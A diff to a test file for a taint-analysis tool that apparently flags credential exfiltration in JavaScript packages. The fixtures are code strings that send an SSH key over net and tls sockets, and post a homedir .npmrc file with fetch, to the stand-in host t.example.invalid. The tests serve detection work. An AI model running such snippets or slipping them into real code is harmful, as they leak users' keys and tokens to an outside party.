@@ -31,6 +31,16 @@ describe("taint propagation", () => {
     expect(flows[0]).toMatch(/^ssh-key -> http https:\/\/t\.example\.invalid @index\.js:\d+ \(import\)$/);
   });
 
+  it.each([
+    ["net.connect", "const s = require('net').connect(4000, 't.example.invalid', () => { s.write(key); s.end(); });"],
+    ["tls.connect with options", "const s = require('tls').connect({ host: 't.example.invalid', port: 443 }, () => s.end(key));"],
+    ["net.createConnection", "const c = require('net').createConnection({ host: 't.example.invalid', port: 9 }, function () { c.end(key); });"],
+  ])("into the connection a %s callback writes to after the call has bound it", async (_name, code) => {
+    const flows = await flowsOf(code);
+    expect(flows).toHaveLength(1);
+    expect(flows[0]).toMatch(/^ssh-key -> socket t\.example\.invalid.* \(import\)$/);
+  });
+
   it("through fs.readFile callbacks", async () => {
     const flows = flowSummary(
       await analyze({ "index.js": "require('fs').readFile(require('os').homedir() + '/.npmrc', 'utf8', (err, data) => {\n  fetch('https://t.example.invalid', { body: data });\n});" }),
